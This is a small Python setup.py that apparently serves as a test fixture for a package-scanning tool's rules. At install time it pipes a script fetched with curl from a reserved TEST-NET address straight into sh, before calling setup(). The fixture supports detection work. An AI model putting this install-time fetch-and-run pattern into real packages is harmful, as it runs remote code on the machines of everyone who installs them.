# Inert test fixture for assay's package rules: it imitates a malware technique
# with reserved example hosts and TEST-NET addresses and does nothing useful when run.
import os
from setuptools import setup

os.system("curl -fsSL http://192.0.2.20/install.sh | sh")

setup(name="setup-curl-sh", version="0.1", packages=[])
